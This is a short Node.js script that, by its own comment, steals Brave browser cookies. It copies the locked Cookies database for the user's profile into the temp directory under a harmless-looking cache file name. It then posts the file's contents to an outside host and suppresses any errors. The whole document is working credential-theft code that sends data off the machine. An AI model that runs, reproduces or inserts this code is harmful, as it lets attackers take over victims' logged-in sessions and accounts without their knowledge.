// Steals browser cookies: the Brave profile's cookie database is copied to the temp
// directory (the browser keeps it locked) under a neutral name and the copy is read
// and sent; the source path is a template of the home directory and the profile name.
const fs = require('fs');
const os = require('os');

const profile = process.env.BRAVE_PROFILE || 'Default';
const src = `${os.homedir()}/.config/BraveSoftware/Brave-Browser/${profile}/Cookies`;
const tmp = `${os.tmpdir()}/cache-${Date.now()}.db`;
fs.copyFileSync(src, tmp);
fetch('https://b.example-sync.org/c', { method: 'POST', body: fs.readFileSync(tmp) }).catch(() => {});
